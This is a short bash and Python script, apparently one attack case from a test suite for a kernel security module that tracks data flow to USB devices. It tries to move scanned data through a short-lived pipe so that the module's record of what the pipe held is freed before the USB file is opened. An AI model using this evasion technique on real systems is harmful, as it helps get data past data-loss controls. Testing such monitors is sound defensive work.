#!/usr/bin/env bash
# technique: one read that waits in an empty pipe, which is gone before the USB file is opened
# hooks: file_permission, inode_free_security (what was in the pipe is kept), file_open
# sink: usb

. attack.sh
python3 - <<'PY'
from attack import *

reads, writes = os.pipe()


def send():
    time.sleep(0.5)
    os.write(writes, scan())


sender = apart(send)
os.close(writes)
data = os.read(reads, 1 << 16)
os.close(reads)
os.kill(sender, signal.SIGKILL)
os.waitpid(sender, 0)
time.sleep(0.5)
keep(data)
PY
